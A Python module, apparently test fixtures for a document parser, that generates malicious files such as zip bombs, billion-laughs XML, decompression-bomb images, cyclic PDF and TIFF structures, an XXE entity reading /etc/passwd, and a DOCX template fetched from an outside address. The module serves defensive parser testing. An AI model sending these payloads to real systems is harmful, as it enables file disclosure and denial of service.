"""Files that ask for far more than they are. Each maker returns the bytes of one.

Made by code, so that none of them lies in the repository.
"""

import gzip
import io
import random
import struct
import zlib

from PIL import Image

from .samples import (
    make_docx,
    make_odf,
    make_ole,
    make_pdf,
    make_xlsx,
    office_relation,
    paragraph,
    relations_part,
    sheet_with,
    word_body,
)


def docx_that_unpacks_to_120_megabytes() -> bytes:
    return make_docx(word_body(paragraph("bom " * 30_000_000)))


def docx_that_lies_about_sizes() -> bytes:
    data = bytearray(make_docx(word_body(paragraph("bom " * 20_000_000))))
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        if b"document.xml" in data[place + 46:place + 80]:
            struct.pack_into("<L", data, place + 24, 1_000)
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


def docx_with_too_many_members() -> bytes:
    return make_docx(word_body(paragraph("x")), **{f"m{n}.xml": b"<a/>" for n in range(12_000)})


def docx_of_nested_elements() -> bytes:
    return make_docx(word_body("<w:sdt>" * 400_000 + "</w:sdt>" * 400_000))


def docx_of_billion_laughs() -> bytes:
    entities = '<!ENTITY a "tawa tawa tawa tawa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    body = word_body(paragraph("&m;")).decode()
    return make_docx(f"<!DOCTYPE w:document [{entities}]>{body}".encode())


def docx_that_asks_for_a_local_file() -> bytes:
    body = word_body(paragraph("isi &x; akhir")).decode()
    return make_docx(
        f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>{body}'.encode())


def docx_that_fetches_a_template() -> bytes:
    return make_docx(word_body(paragraph("Laporan")), **{
        "word/_rels/document.xml.rels": relations_part(office_relation(
            "r9", "attachedTemplate", "http://192.0.2.7/t.dotm", "External"))})


def xlsx_with_a_value_in_the_last_corner() -> bytes:
    return make_xlsx(sheet_with(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>awal</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>ujung</t></is></c></row>'))


def xlsx_with_prefixed_names() -> bytes:
    text = sheet_with('<row r="1"><c r="A1"><v>1</v></c></row>'
                      '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>').decode()
    for tag in ("worksheet", "sheetData", "row", "c ", "c>", "v>"):
        text = text.replace(f"<{tag}", f"<x:{tag}").replace(f"</{tag}", f"</x:{tag}")
    return make_xlsx(text.replace("xmlns=", "xmlns:x=").encode())


def xlsx_of_two_million_cells() -> bytes:
    rows = "".join(f'<row r="{row}">' + f'<c><v>{row}</v></c>' * 20 + "</row>"
                   for row in range(1, 100_001))
    return make_xlsx(sheet_with(rows))


def ods_of_repeated_cells() -> bytes:
    return make_odf("spreadsheet", (
        '<t:table t:name="Rekap"><t:table-row t:number-rows-repeated="1048576">'
        '<t:table-cell t:number-columns-repeated="16384"><x:p>isi<x:s x:c="999999999"/></x:p>'
        "</t:table-cell></t:table-row></t:table>"))


def pdf_of_eight_million_operators() -> bytes:
    return make_pdf(b"0 0 m 1 1 l S\n" * 8_000_000)


def pdf_of_ten_million_letters() -> bytes:
    return make_pdf(b"BT /F1 1 Tf 1 1 Td\n" + b"(abcdefghij) Tj\n" * 1_000_000 + b"ET")


def pdf_of_open_groups() -> bytes:
    return make_pdf(b"q " * 5_000_000 + b"[" * 5_000_000)


def pdf_of_twenty_thousand_pages() -> bytes:
    return make_pdf(b"BT /F1 12 Tf 50 700 Td (Halaman) Tj ET", pages=20_000)


def pdf_whose_page_tree_bites_its_tail() -> bytes:
    return make_pdf(b"").replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]")


def pdf_of_an_endless_page() -> bytes:
    return make_pdf(b"BT /F1 12 Tf 50 700 Td (Luas) Tj ET",
                    page="/MediaBox [0 0 9000000 9000000] /UserUnit 75000")


def pdf_of_a_thin_page() -> bytes:
    return make_pdf(b"", page="/MediaBox [0 0 0.001 14400]")


def tiff_of_four_hundred_megapixels() -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000), 1).save(buffer, "TIFF", compression="group4")
    return buffer.getvalue()


def tiff_whose_frames_bite_their_tail() -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (8, 8)).save(buffer, "TIFF")
    data = bytearray(buffer.getvalue())
    (start,) = struct.unpack_from("<L", data, 4)
    (count,) = struct.unpack_from("<H", data, start)
    struct.pack_into("<L", data, start + 2 + 12 * count, start)
    return bytes(data)


def png_of_claimed_pixels(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a kilobyte that claims gigapixels."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">L", len(body)) + kind + body
                + struct.pack(">L", zlib.crc32(kind + body)))
    header = struct.pack(">2L5B", width, height, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(bytes(100_000))) + chunk(b"IEND", b""))


def png_of_large_comments() -> bytes:
    data = png_of_claimed_pixels(4, 4)
    body = b"c\0\0" + zlib.compress(bytes(80_000_000), 9)
    text = (struct.pack(">L", len(body)) + b"zTXt" + body
            + struct.pack(">L", zlib.crc32(b"zTXt" + body)))
    return data[:33] + text + data[33:]


def gif_of_four_gigapixels() -> bytes:
    return (b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02"
            + b"\x02\x4c\x01\0;")


def svg_packed_by_gzip() -> bytes:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
    return gzip.compress(drawing, mtime=0)


def rtf_of_open_groups() -> bytes:
    return rb"{\rtf1 " + b"{" * 3_000_000 + b"teks"


def rtf_of_long_control_words() -> bytes:
    return rb"{\rtf1 " + (b"\\" + b"a" * 5_000 + b" ") * 2_000 + b"}"


def mail_of_nested_parts() -> bytes:
    head = b"From: a@example.go.id\r\nDate: Mon, 1 Jan 2024 00:00:00 +0700\r\nMIME-Version: 1.0\r\n"
    parts = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n)
                     for n in range(3_000))
    return head + parts + b"Content-Type: text/plain\r\n\r\nisi\r\n"


def mail_of_broken_markup() -> bytes:
    head = (b"From: a@example.go.id\r\nDate: Mon, 1 Jan 2024 00:00:00 +0700\r\n"
            b"Content-Type: text/html\r\n\r\n")
    return head + b"<![CDATA[<!--<a " * 60_000


def mail_of_a_long_header() -> bytes:
    return (b"From: a@example.go.id\r\nDate: Mon, 1 Jan 2024 00:00:00 +0700\r\nSubject: "
            + b"=?utf-8?q?=41?=\r\n " * 200_000 + b"\r\n\r\nisi")


def text_of_thirty_megabytes() -> bytes:
    return b"laporan kegiatan bulanan kecamatan\n" * 900_000


def text_of_one_line() -> bytes:
    return b"a" * 20_000_000


def text_of_combining_marks() -> bytes:
    return ("a" + "\u0300\u0316" * 2_000_000).encode()


def text_of_open_comments() -> bytes:
    return b"<!--" * 16_000


def ppt_of_nested_records() -> bytes:
    # Not a complete file: the container of streams is real, its slides are one deep nest.
    return make_ole({"PowerPoint Document": b"\x0f\x00\xe8\x03\xff\xff\xff\x7f" * 400_000})


def ole_whose_chain_bites_its_tail() -> bytes:
    data = bytearray(make_ole({"WordDocument": bytes(5_000)}))
    struct.pack_into("<L", data, 512 + 4, 1)
    return bytes(data)


def doc_of_countless_pieces() -> bytes:
    return make_ole({"WordDocument": random.Random(7).randbytes(100_000)})
